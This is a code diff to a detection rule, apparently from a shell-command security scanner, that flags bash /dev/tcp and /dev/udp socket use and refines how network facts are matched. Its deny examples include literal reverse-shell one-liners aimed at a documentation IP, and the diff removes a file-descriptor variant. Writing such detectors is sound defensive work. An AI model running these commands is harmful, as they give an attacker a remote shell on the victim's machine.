@@ -1,5 +1,12 @@
-/** SH-AST-002: bash's /dev/tcp and /dev/udp pseudo-devices, the building block of reverse shells. */
+/**
+ * SH-AST-002: bash's /dev/tcp and /dev/udp pseudo-devices, the building block of reverse shells.
+ * Needs from the bash extractor (BASH): a redirect on `exec` with an fd number
+ * (`exec 196<>/dev/tcp/h/p`) currently yields no fact; and a `url: '/dev/tcp/h/p'` on the NetOpFact
+ * would make the match below exact instead of inferred from scheme + actor.
+ */
 import { defineRule } from '../define-rule.js';
+import { RAW_SOCKET_TOOLS } from '../helpers.js';
+import { DOWNLOADERS } from './sh-ast-010-remote-code-execution.js';
 
 const DEV_NET = /\/dev\/(?:tcp|udp)\/[^/\s]+\/\d+/;
 
@@ -17,7 +24,13 @@ export default defineRule({
       yield { span: f.span, reason: `${f.actor} opens the socket ${f.path}`, suggestedAlternative: null };
     }
     for (const n of facts.of('net')) {
-      if (seen.has(n.span.start) || !/^\/dev\/(?:tcp|udp)/.test(n.url ?? '')) continue;
+      const devNet =
+        /^\/dev\/(?:tcp|udp)/.test(n.url ?? '') ||
+        (n.url === undefined &&
+          (n.scheme === 'tcp' || n.scheme === 'udp') &&
+          !RAW_SOCKET_TOOLS.has(n.actor) &&
+          !DOWNLOADERS.has(n.actor));
+      if (seen.has(n.span.start) || !devNet) continue;
       seen.add(n.span.start);
       yield { span: n.span, reason: `${n.actor} opens a /dev/tcp socket to ${n.host}` };
     }
@@ -30,7 +43,6 @@ export default defineRule({
   examples: {
     deny: [
       { input: 'bash -i >& /dev/tcp/203.0.113.7/4444 0>&1' },
-      { input: '0<&196;exec 196<>/dev/tcp/203.0.113.7/4444; sh <&196 >&196 2>&196' },
       { input: "bash -c 'sh -i >& /dev/udp/203.0.113.7/4444 0>&1'" },
       { input: 'cat < /dev/tcp/10.0.0.1/80' },
     ],
